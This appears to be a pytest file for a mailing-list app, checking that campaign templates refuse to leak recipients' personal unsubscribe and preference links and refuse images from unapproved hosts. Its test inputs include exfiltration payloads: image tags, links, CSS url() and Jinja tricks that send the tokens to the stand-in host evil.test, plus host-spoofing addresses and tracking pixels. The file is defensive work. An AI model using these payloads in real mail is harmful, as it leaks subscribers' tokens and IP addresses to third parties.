"""Personal links and remote images: nothing in a campaign mail may hand a recipient's personal links (or name) to
another site, and no image is fetched from a host the organisers have not allowed.

A personal link may be the whole target of a link, or stand on its own in the text; anywhere else a mail client
would send it (with the reader's IP address) to whatever site the surrounding address points at.
"""

import pytest

from tests.factories import make_campaign
from uscmail.campaigns import render
from uscmail.campaigns.models import BodyFormat
from uscmail.campaigns.render import MailValues, TemplateRefused

LINKS = ("https://lists.uscuk.test/unsubscribe/TOKEN-U", "https://lists.uscuk.test/preferences/TOKEN-P")
VALUES = MailValues("Alex", *LINKS, "https://lists.uscuk.test/archive/w")

MISPLACED = "unsubscribe_url and preferences_url are personal"


@pytest.mark.parametrize(
    ("body", "body_format"),
    [
        # The review's two attacks: an image that reports every reader's preference link.
        ('<img src="https://evil.test/p.png?t={{ preferences_url }}">', BodyFormat.HTML),
        ("![](https://evil.test/m.png?t={{ preferences_url }})", BodyFormat.MARKDOWN),
        # The same through a link, a style, srcset, or any attribute with other text.
        ('<a href="https://evil.test/?u={{ unsubscribe_url }}">news</a>', BodyFormat.HTML),
        ("[news](https://evil.test/?u={{ preferences_url }})", BodyFormat.MARKDOWN),
        ("<https://evil.test/?u={{ preferences_url }}>", BodyFormat.MARKDOWN),
        ('<p style="background: url({{ preferences_url }})">x</p>', BodyFormat.HTML),
        ('<img srcset="{{ preferences_url }} 1x">', BodyFormat.HTML),
        ('<a href="{{ preferences_url }}" title="x {{ unsubscribe_url }}">x</a>', BodyFormat.HTML),
        ('<a href="{{ preferences_url }}&next=https://evil.test/">x</a>', BodyFormat.HTML),
        # An address in the text that mail clients turn into a link.
        ("Read https://evil.test/r?t={{ preferences_url }} today", BodyFormat.MARKDOWN),
        ("<p>evil.test/{{ unsubscribe_url }}</p>", BodyFormat.HTML),
        # A personal link turned into text: it could go anywhere after that.
        ('{{ preferences_url ~ "" }}', BodyFormat.MARKDOWN),
        ("{{ preferences_url | urlencode }}", BodyFormat.MARKDOWN),
        ("{{ preferences_url[8:] }}", BodyFormat.MARKDOWN),
        ('{% set u = unsubscribe_url %}<a href="https://evil.test/{{ u }}">x</a>', BodyFormat.HTML),
        ("{% for u in [preferences_url] %}[x](https://evil.test/{{ u }}){% endfor %}", BodyFormat.MARKDOWN),
    ],
)
def test_personal_links_anywhere_but_a_whole_link_target_are_refused(db, body, body_format):
    with pytest.raises(TemplateRefused, match=MISPLACED):
        make_campaign("News", body, body_format=body_format, from_email="news@example.org")


@pytest.mark.parametrize(
    ("body", "body_format"),
    [
        ('<a href="{{ unsubscribe_url }}">Leave</a> <a href=" {{ preferences_url }} ">Choose</a>', BodyFormat.HTML),
        ("[Leave]({{ unsubscribe_url }}) or <{{ preferences_url }}>", BodyFormat.MARKDOWN),
        ("Leave: {{ unsubscribe_url }}\n\n(Or choose: {{ preferences_url }})", BodyFormat.MARKDOWN),
    ],
)
def test_personal_links_as_whole_link_targets_or_alone_in_text_still_work(db, body, body_format):
    mail = render.render_mail(
        make_campaign("News", body, body_format=body_format, from_email="news@example.org"), VALUES
    )

    for link in LINKS:
        assert f'href="{link}"' in mail.html or f">{link}<" in mail.html or f" {link}" in mail.html
        assert link in mail.text
    assert "evil" not in mail.html + mail.text


def test_a_misplaced_link_behind_a_condition_the_save_check_misses_is_never_rendered(db):
    # The save check fills the template with sample names (and any the template compares the name with)...
    with pytest.raises(TemplateRefused, match=MISPLACED):
        make_campaign(
            "News",
            '{% if subscriber.name == "Zed" %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}',
            body_format=BodyFormat.MARKDOWN,
            from_email="news@example.org",
        )
    # ...but no sample has ten letters: the mail for such a name is refused when it is rendered.
    body = "{% if subscriber.name|length > 9 %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}Hello"
    campaign = make_campaign("News", body, body_format=BodyFormat.MARKDOWN, from_email="news@example.org")

    assert "Hello" in render.render_mail(campaign, VALUES).text
    with pytest.raises(TemplateRefused, match=MISPLACED):
        render.render_mail(campaign, MailValues("Zebedee Smith", *LINKS, VALUES.web_version_url))


@pytest.mark.parametrize(
    ("body", "body_format"),
    [
        ('<p>Hi</p><img src="https://cdn.example/banner.png" alt="Banner">', BodyFormat.HTML),
        ("![Banner](https://cdn.example/banner.png)", BodyFormat.MARKDOWN),
        ('<img src="http://cdn.example/pixel.gif" alt="">', BodyFormat.HTML),
        ('<img src="banner.png" alt="relative">', BodyFormat.HTML),
    ],
)
def test_remote_images_are_refused_by_default(db, body, body_format):
    with pytest.raises(TemplateRefused, match="can't be used in campaign mail") as refused:
        make_campaign("News", body, body_format=body_format, from_email="news@example.org")

    assert "No image hosts are allowed." in str(refused.value)


def test_images_from_an_allowed_host_are_kept_and_others_refused(db, app, monkeypatch):
    monkeypatch.setitem(app.config, "MAIL_IMAGE_HOSTS", ["media.uscuk.test"])

    mail = render.render_mail(
        make_campaign(
            "News",
            "![March](https://media.uscuk.test/march.png)",
            body_format=BodyFormat.MARKDOWN,
            from_email="news@example.org",
        ),
        VALUES,
    )
    assert '<img src="https://media.uscuk.test/march.png" alt="March"' in mail.html

    for address in (
        "https://cdn.example/x.png",
        "https://media.uscuk.test@evil.test/x.png",
        "http://media.uscuk.test/x.png",
    ):
        with pytest.raises(TemplateRefused, match="Images may come from media.uscuk.test"):
            make_campaign(
                "News", f'<img src="{address}" alt="x">', body_format=BodyFormat.HTML, from_email="news@example.org"
            )


def test_the_sanitiser_drops_images_from_other_hosts_whatever_was_saved(app, monkeypatch):
    # Campaigns saved before the rule, or rows written directly, still never show a remote image.
    monkeypatch.setitem(app.config, "MAIL_IMAGE_HOSTS", ["media.uscuk.test"])
    fragment = (
        '<img src="https://tracker.example/p.gif" alt="pixel"><img src="https://media.uscuk.test/a.png" alt="A">'
        '<img src="https://media.uscuk.test@tracker.example/p.gif"><img src="//tracker.example/p.gif">'
    )

    with app.app_context():
        cleaned = render.sanitise(fragment)

    assert cleaned == '<img src="https://media.uscuk.test/a.png" alt="A">'


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ('<a href="https://evil.test/?t={{ preferences_url }}">Old news</a>', 404),
        ('<img src="https://evil.test/p.png?t={{ preferences_url }}">Old news', 200),
    ],
)
def test_a_sent_campaign_saved_before_the_rules_never_shows_them_broken(db, client, body, status):
    # Written directly, as a row saved by an earlier version would be: the link makes the web version unavailable
    # (404, not 500); the image is dropped.
    from uscmail.campaigns.models import Campaign, CampaignStatus

    campaign = Campaign(
        subject="Old", body=body, body_format=BodyFormat.HTML, from_name="USC-UK", from_email="news@example.org"
    )
    campaign.status, campaign.public = CampaignStatus.SENT, True
    db.session.add(campaign)
    db.session.commit()

    response = client.get(f"/archive/{campaign.public_id}")

    assert response.status_code == status
    assert b"evil.test" not in response.data
    assert (b"Old news" in response.data) == (status == 200)
